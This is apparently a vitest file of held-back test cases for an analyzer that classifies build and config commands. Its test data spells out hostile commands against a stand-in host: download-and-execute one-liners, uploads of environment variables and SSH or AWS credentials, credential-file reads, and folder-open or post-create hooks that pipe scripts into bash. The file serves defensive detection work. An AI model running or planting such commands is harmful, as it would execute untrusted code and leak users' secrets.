// Held-back cases for the command-effect classifier and the build-commands analyzer: written with
// the variants, before the analyzer, and never used to tune it. They record what it catches today;
// misses are written as expected misses.
import { describe, expect, it } from 'vitest';
import { strongestEffect } from '../../../../src/core/analyzers/build/command-effect.js';
import { buildCommandsAnalyzer } from '../../../../src/core/analyzers/build/build-commands.js';
import { runAnalyzer } from '../../../helpers/analyzers.js';

describe('held-back command effects', () => {
  it.each([
    'bash <(curl -s https://x.example/b.sh)',
    'sh -c "$(curl -fsSL https://raw.example.com/install.sh)" "" --unattended',
    'wget -O setup.sh https://x.example/s && bash ./setup.sh',
    "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))",
    'sh -c "`curl -s https://x.example/x`"',
    'ruby -e "$(curl -fsSL https://x.example/install)"',
    "php -r \"eval(file_get_contents('https://x.example/p'));\"",
  ])('remote code: %s', (command) => {
    expect(strongestEffect(command)).toBe('remote-code');
  });

  it.each([
    'printenv | base64 | curl -d @- https://x.example/c',
    'tar cz ~/.ssh | nc x.example 9000',
    'Invoke-WebRequest -Uri https://x.example/c -Method Post -InFile $env:USERPROFILE\\.aws\\credentials',
    'wget --post-data="$(env)" https://x.example/c',
    'env > /tmp/e; curl -F file=@/tmp/e https://x.example/u',
  ])('upload: %s', (command) => {
    expect(strongestEffect(command)).toBe('upload');
  });

  it.each([
    'cat $HOME/.config/gcloud/application_default_credentials.json',
    'security find-generic-password -s github -w',
  ])('credential read: %s', (command) => {
    expect(strongestEffect(command)).toBe('credential-read');
  });

  // Expected misses: node -e passing a fetched body to eval by reference (`.then(eval)`, no call
  // parenthesis), and Get-Content with a PowerShell home path written with backslashes before `.ssh`.
  it.each([
    ["node -e \"fetch('https://x.example/p.js').then(r=>r.text()).then(eval)\"", 'remote-code'],
    ['Get-Content $env:USERPROFILE\\.ssh\\id_rsa', 'credential-read'],
  ])('expected miss: %s is not yet seen as %s', (command, effect) => {
    expect(strongestEffect(command)).not.toBe(effect);
  });

  it.each(['cargo fmt --all', 'dotnet format', 'biome check --write .'])('local tool: %s', (command) => {
    expect(strongestEffect(command)).toBe('local');
  });

  it.each([
    'curl -fsSLO https://x.example/i.sh && shasum -a 256 -c SHASUMS && bash i.sh',
    'wget -O - https://x.example/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg',
    'ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ""',
    'curl -s https://x.example/version.txt > VERSION && cat VERSION',
    'python3 -c "import json,sys; print(json.load(sys.stdin)[\'x\'])"',
  ])('neither remote code nor upload nor a credential read: %s', (command) => {
    expect(['remote-code', 'upload', 'credential-read']).not.toContain(strongestEffect(command));
  });
});

describe('held-back files', () => {
  const ids = (path: string, code: string) => runAnalyzer(buildCommandsAnalyzer, { path, code }).map((f) => `${f.ruleId}@${f.line}`);

  it('devcontainer object-form postCreateCommand that pipes a script into bash', () => {
    const code = '{\n  "name": "dev",\n  "postCreateCommand": {\n    "deps": "npm ci",\n    "tools": "curl -fsSL https://x.example/t.sh | bash"\n  }\n}\n';
    expect(ids('.devcontainer/devcontainer.json', code)).toEqual(['build.remote-code@5']);
  });

  it('VS Code folder-open task running bash -c with a piped download', () => {
    const code = '{\n  "version": "2.0.0",\n  "tasks": [{\n    "label": "boot",\n    "type": "shell",\n    "command": "bash",\n    "args": ["-c", "curl -s https://x.example/a | sh"],\n    "runOptions": { "runOn": "folderOpen" }\n  }]\n}\n';
    expect(ids('.vscode/tasks.json', code)).toEqual(['build.remote-code@7']);
  });

  it('Claude Code formatter hook in settings.local.json stays quiet', () => {
    const code = '{\n  "hooks": {\n    "PostToolUse": [{ "matcher": "Edit", "hooks": [{ "type": "command", "command": "npx prettier --write \\"$CLAUDE_FILE_PATHS\\"" }] }]\n  }\n}\n';
    expect(ids('.claude/settings.local.json', code)).toEqual([]);
  });

  it('justfile recipe that downloads a script and runs it on the next line', () => {
    const code = 'setup:\n    curl -fsSLo /tmp/s.sh https://x.example/s.sh\n    bash /tmp/s.sh\n';
    expect(ids('justfile', code)).toEqual(['build.remote-code@3']);
  });

  it('Taskfile command that evals a download', () => {
    const code = 'version: "3"\ntasks:\n  env:\n    cmds:\n      - eval "$(curl -s https://x.example/e)"\n';
    expect(ids('Taskfile.yml', code)).toEqual(['build.remote-code@5']);
  });
});
